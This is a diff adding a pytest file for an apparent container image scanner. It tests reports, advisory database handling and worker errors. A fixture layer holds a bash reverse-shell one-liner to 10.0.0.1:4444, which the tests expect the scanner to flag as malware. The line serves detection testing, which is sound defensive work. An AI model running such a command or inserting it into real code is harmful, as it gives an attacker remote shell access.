@@ -1,0 +1,124 @@
+"""From an archive to a report."""
+
+import asyncio
+import json
+from collections.abc import AsyncIterator
+from concurrent.futures import ProcessPoolExecutor
+from multiprocessing import get_context
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from pratique.errors import EngineError, ImageError
+from pratique.image import Options as ImageOptions
+from pratique.model import FindingKind, ImageId, ImageIdentity, Report
+from pratique.pipelines.scan import Options, scan_engine_image, scan_file
+from pratique.runtime import Engine
+from tests.unit.image.archives import archive, configuration, entry, layout, sha256, tar, write, write_layout
+
+LAYER = tar(
+    entry("etc/os-release", b"ID=debian\nVERSION_ID=12\n"),
+    entry("var/lib/dpkg/status", b"Package: bash\nStatus: install ok installed\nVersion: 5.2.15-2+b2\n"),
+    entry("tmp/x.sh", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+)
+
+
+class OneImage(Engine):
+    """An engine that holds one image, given as the bytes of its export."""
+
+    def __init__(self, identity: ImageIdentity | None, export: bytes) -> None:
+        self._identity = identity
+        self._bytes = export
+
+    async def image(self, reference: str) -> ImageIdentity | None:
+        del reference
+        return self._identity
+
+    async def export(self, image_id: ImageId) -> AsyncIterator[bytes]:
+        del image_id
+        for start in range(0, len(self._bytes), 1000):
+            yield self._bytes[start : start + 1000]
+
+
+def test_report_holds_identity_packages_and_findings(tmp_path: Path) -> None:
+    report = scan_file(write(archive([LAYER]), tmp_path))
+    assert report.image.id == sha256(configuration([LAYER]))
+    assert report.distribution == "debian 12"
+    assert [(package.name, package.ecosystem) for package in report.packages] == [("bash", "Debian:12")]
+    kinds = {finding.kind: finding.rule for finding in report.findings}
+    assert kinds == {
+        FindingKind.MALWARE: "reverse-shell-bash",
+        FindingKind.MISCONFIGURATION: "runs-as-root",
+    }
+    assert (report.files, report.unread, report.advisories_at) == (3, (), 0.0)
+
+
+def test_archive_and_layout_of_one_image_give_one_report(tmp_path: Path) -> None:
+    one = scan_file(write(archive([LAYER]), tmp_path))
+    other = scan_file(write_layout(layout([LAYER]), tmp_path / "layout"))
+    same = {"scanned_at": 0.0, "duration_s": 0.0, "image": one.image}
+    assert msgspec.structs.replace(one, **same) == msgspec.structs.replace(other, **same)
+
+
+def test_missing_advisory_database_is_no_error(tmp_path: Path) -> None:
+    report = scan_file(write(archive([LAYER]), tmp_path), advisories=tmp_path / "none.db")
+    assert (report.advisories_at, report.unread) == (0.0, ())
+
+
+def test_damaged_advisory_database_makes_the_report_incomplete(tmp_path: Path) -> None:
+    database = write(b"not sqlite" * 1000, tmp_path, "advisories.db")
+    report = scan_file(write(archive([LAYER]), tmp_path), advisories=database)
+    assert [unread.path for unread in report.unread] == ["advisory database"]
+    assert len(report.findings) == 2
+
+
+async def _scan(engine: Engine, options: Options | None = None) -> Report:
+    with ProcessPoolExecutor(1, mp_context=get_context("spawn")) as pool:
+        return await scan_engine_image(engine, ImageId("sha256:" + "0" * 64), options, pool=pool)
+
+
+def identity_of(config: bytes) -> ImageIdentity:
+    return ImageIdentity(id=ImageId(sha256(config)), references=("name:1",))
+
+
+def test_image_of_an_engine_is_scanned_in_a_worker_and_leaves_no_file(tmp_path: Path) -> None:
+    options = Options(image=ImageOptions(spool_dir=str(tmp_path)))
+    report = asyncio.run(_scan(OneImage(identity_of(configuration([LAYER])), archive([LAYER])), options))
+    assert report.image.references == ("name:1",)
+    assert report.image.layers == (sha256(LAYER),)
+    assert [finding.rule for finding in report.findings if finding.kind is FindingKind.MALWARE] == [
+        "reverse-shell-bash"
+    ]
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_export_of_another_image_is_refused() -> None:
+    with pytest.raises(ImageError, match="in place of"):
+        asyncio.run(_scan(OneImage(identity_of(b"another"), archive([LAYER]))))
+
+
+def test_image_that_an_engine_names_by_its_manifest_is_accepted() -> None:
+    files = layout([LAYER], compress=False)
+    digest = json.loads(files["index.json"])["manifests"][0]["digest"]
+    export = tar(*(entry(name, data) for name, data in files.items()))
+    report = asyncio.run(_scan(OneImage(ImageIdentity(id=ImageId(digest)), export)))
+    assert report.image.id == digest
+
+
+def test_error_of_a_worker_keeps_its_class_and_hint() -> None:
+    with pytest.raises(ImageError) as caught:
+        asyncio.run(_scan(OneImage(identity_of(b""), tar(entry("x")))))
+    assert "holds no image" in caught.value.what
+    assert caught.value.hint
+
+
+def test_export_over_the_bound_is_refused() -> None:
+    engine = OneImage(identity_of(b""), bytes(5000))
+    with pytest.raises(ImageError, match="larger than 4000 bytes"):
+        asyncio.run(_scan(engine, Options(image=ImageOptions(max_image_bytes=4000))))
+
+
+def test_image_that_the_engine_does_not_know_is_one_error() -> None:
+    with pytest.raises(EngineError, match="has no image"):
+        asyncio.run(_scan(OneImage(None, b"")))
